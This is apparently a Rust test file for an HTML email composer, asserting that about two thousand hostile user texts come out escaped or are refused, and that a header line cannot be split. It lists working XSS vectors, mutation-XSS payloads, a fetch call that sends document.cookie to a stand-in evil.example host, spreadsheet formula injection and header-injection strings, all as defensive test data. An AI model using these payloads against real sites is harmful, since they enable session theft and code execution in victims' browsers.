//! What people type to get out of the words they are given comes out as words, or is refused.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on should panic")]

mod support;

use std::collections::BTreeSet;

use bln_core::{Attribution, Figure, FigureParts, Line, Post, Prose, RecognitionKind};
use bln_mail::{Composed, EventItem, HeaderText, Place, RecognitionItem, Section, TestimonialItem};
use support::{elements, evening, figure, link, message, message_to, news, now, resource};

/// Everything a letter may be made of.
const ELEMENTS: [&str; 26] = [
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "div",
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "blockquote",
    "pre",
    "code",
    "hr",
    "strong",
    "em",
    "a",
    "br",
    "bdi",
];

const ATTRIBUTES: [&str; 12] = [
    "style",
    "class",
    "lang",
    "dir",
    "role",
    "aria-roledescription",
    "aria-label",
    "charset",
    "name",
    "content",
    "href",
    "start",
];

/// Why HTML is not harmless; `None` if it is.
fn harm(html: &str) -> Option<String> {
    for (name, attributes) in elements(html) {
        if !ELEMENTS.contains(&name.as_str()) {
            return Some(format!("element {name}"));
        }
        for (attribute, value) in attributes {
            if !ATTRIBUTES.contains(&attribute.as_str()) {
                return Some(format!("attribute {attribute} of {name}"));
            }
            let leads = value.starts_with("https://") || value.starts_with("mailto:");
            if attribute == "href" && !leads {
                return Some(format!("a link to {value}"));
            }
            if attribute == "style" && (value.contains("url(") || value.contains("expression")) {
                return Some(format!("style {value}"));
            }
        }
    }
    let hidden = |c: &char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\0');
    html.chars().find(hidden).map(|c| format!("character {:x}", u32::from(c)))
}

fn is_fixed(html: &str) -> bool {
    let shape = elements(html);
    // As text it is parsed, written and parsed again: what mutates on the way is what gets past filters.
    let again = serialised(html);
    elements(&again) == shape && serialised(&again) == again
}

/// HTML as a browser would write what it parsed.
fn serialised(html: &str) -> String {
    let mut out = Vec::new();
    let document: markup5ever_rcdom::SerializableHandle = support::parsed(html).document.clone().into();
    html5ever::serialize(&mut out, &document, html5ever::serialize::SerializeOpts::default()).unwrap();
    String::from_utf8(out).unwrap()
}

/// Ways to have something done, each with a place for a call.
const VECTORS: [&str; 56] = [
    "<script>{}</script>",
    "<SCRIPT SRC=https://evil.example/{}.js></SCRIPT>",
    "<img src=x onerror={}>",
    "<img src=\"x` `<script>{}</script>\"` `>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:{} /><text x=20 y=20>x</text></a>",
    "<math><mi//xlink:href=\"data:x,<script>{}</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">",
    "<listing>&lt;img onerror={} src=x&gt;</listing>",
    "<xmp><p title=\"</xmp><img src=x onerror={}>\">",
    "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<link rel=stylesheet href=https://evil.example/{}.css>",
    "<style>@import 'https://evil.example/{}.css'</style>",
    "<div style=\"background:url(javascript:{})\">",
    "<div style=\"width:expression({})\">",
    "<a href=javascript:{}>x</a>",
    "<a href=\"jav&#x09;ascript:{}\">x</a>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<marquee onstart={}>x</marquee>",
    "<form action=javascript:{}><button>x</button></form>",
    "<template><script>{}</script></template>",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<!--><script>{}</script-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version=\"1.0\"?><script>{}</script>",
    "\"><script>{}</script>",
    "' onmouseover='{}",
    "\" onmouseover=\"{}",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</div></body></html><script>{}</script>",
    "--><script>{}</script>",
    "[x](javascript:{})",
    "[x](JaVaScRiPt&colon;{})",
    "[x](&#106;&#97;&#118;ascript:{})",
    "[x](data:text/html;base64,{})",
    "[x](vbscript:{})",
    "[x](https://evil.example/\"onmouseover={})",
    "[x](<https://evil.example/\" onmouseover=\"{}>)",
    "![{}](javascript:{})",
    "![x\" onerror=\"{}](https://evil.example/x.png)",
    "<javascript:{}>",
    "[x]: javascript:{}\n\n[x]",
];

const CALLS: [&str; 8] = [
    "alert(1)",
    "alert`1`",
    "&#97;lert(1)",
    "\\u0061lert(1)",
    "top['al'+'ert'](1)",
    "eval(atob('YWxlcnQoMSk='))",
    "fetch('//evil.example/'+document.cookie)",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
];

/// How a vector is dressed up.
fn dressed(vector: &str) -> [String; 6] {
    [
        vector.to_owned(),
        format!("**{vector}**"),
        format!("> - {vector}"),
        format!("# {vector}"),
        vector.replace('<', "&lt;").replace('>', "&gt;"),
        vector.to_uppercase(),
    ]
}

fn corpus() -> BTreeSet<String> {
    let called = |vector: &&str| CALLS.map(|call| vector.replace("{}", call));
    let mut corpus: BTreeSet<String> =
        VECTORS.iter().flat_map(called).flat_map(|vector| dressed(&vector)).collect();
    for formula in ["=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "＝1+1", "=cmd|'/C calc'!A0"] {
        corpus.extend(dressed(formula));
    }
    for hidden in
        ["\u{202e}", "\u{2066}", "&#8238;", "&#x2067;", "\u{200b}", "&shy;", "\u{2028}", "&#0;", "\0"]
    {
        corpus.extend(dressed(&format!("gnp{hidden}.exe <b>x</b>")));
    }
    corpus
}

/// An issue that has a text in every place where people write one.
fn everywhere(text: &str) -> Option<Composed> {
    let body = bln_mail::Markdown::parse(text).ok()?;
    let heading = Line::parse(text).ok()?;
    let post = Post { role: Line::parse(text).ok()?, organisation: Line::parse(text).ok()? };
    let attribution = Attribution::Named(Line::parse(text).ok()?, post);
    let (words, reason) = (Prose::parse(text).ok()?, Prose::parse(text).ok()?);
    let listed = resource(text);
    let event = EventItem {
        title: Line::parse(text).ok()?,
        when: evening("2027-04-15"),
        place: Line::parse(text).ok().map(Place::Venue),
        link: Some(link("https://example.org/a")),
    };
    let figure = Figure::new(FigureParts {
        statement: Line::parse(text).ok()?,
        population: Line::parse(text).ok()?,
        method: Line::parse(text).ok()?,
        source: Line::parse(text).ok()?,
        ..figure().parts().clone()
    });
    let said = TestimonialItem { words: words.clone(), attribution: attribution.clone() };
    let kind = RecognitionKind::Thanks;
    let thanks = RecognitionItem { kind, on: "2027-03-08".parse().ok()?, attribution, words };
    let sections = vec![
        Section::News { heading: heading.clone(), body },
        Section::Events { heading: heading.clone(), events: vec![event], more: 1 },
        Section::Resources {
            heading: heading.clone(),
            resources: vec![listed.view(), listed.withdraw(reason, now()).ok()?.view()],
        },
        Section::Figures { heading: heading.clone(), figures: vec![figure.ok()?] },
        Section::Testimonials { heading: heading.clone(), testimonials: vec![said] },
        Section::Recognitions { heading, recognitions: vec![thanks] },
    ];
    Composed::new(Line::parse(text).ok()?, Line::parse(text).ok(), sections).ok()
}

#[test]
fn two_thousand_hostile_texts_come_out_as_words_or_are_refused() {
    let corpus = corpus();
    assert!(corpus.len() >= 2_000, "{} texts", corpus.len());
    let (mut shown, mut fixed) = (0, 0);
    for (at, text) in corpus.iter().enumerate() {
        for composed in [news(text), everywhere(text)].into_iter().flatten() {
            let name: String = text.chars().filter(|c| !c.is_control()).take(200).collect();
            let message = match bln_core::PersonName::parse(name) {
                Ok(name) => message_to(&composed, "sample.person.17@example.org", name.written()),
                Err(_) => message(&composed),
            };
            let html = message.html();
            assert_eq!(harm(&html), None, "{text}");
            shown += 1;
            // Parsing twice takes long: every fourth is enough to see that the writer writes what parsers write.
            if at % 4 == 0 {
                assert!(is_fixed(&html), "{text}");
                fixed += 1;
            }
        }
    }
    assert!(shown > 2_000 && fixed > 500, "{shown} and {fixed}");
}

#[test]
fn a_writer_that_does_not_escape_or_filter_would_be_found() {
    let (mut found, mut texts) = (0, 0);
    for text in corpus().iter().filter(|text| text.contains("<s")) {
        texts += 1;
        found +=
            usize::from(harm(&format!("<!DOCTYPE html><html><body><p>{text}</p></body></html>")).is_some());
    }
    assert!(texts > 300 && found * 10 > texts * 8, "{found} of {texts}");
    for (html, why) in [
        ("<p onclick=x>a", "attribute onclick of p"),
        ("<a href=\"http://example.org\">a</a>", "a link to http://example.org"),
        ("<p style=\"background:url(x)\">a", "style background:url(x)"),
        ("<p>a\u{202e}b", "character 202e"),
        ("<img src=x>", "element img"),
    ] {
        assert_eq!(harm(html).unwrap(), why);
    }
    // What changes when it is parsed again is seen too.
    for mutates in ["<pre>\n\na</pre>", "<form><div></form><form>a"] {
        assert!(!is_fixed(mutates), "{mutates}");
    }
}

#[test]
fn a_line_of_a_header_is_one_line() {
    for text in
        ["a\rb", "a\nb", "a\r\nBcc: x@example.org", "a\u{85}b", "a\u{2028}b", "a\u{2029}b", "a\0b", "a\u{b}b"]
    {
        assert!(HeaderText::parse(text).is_err(), "{text:?}");
    }
}
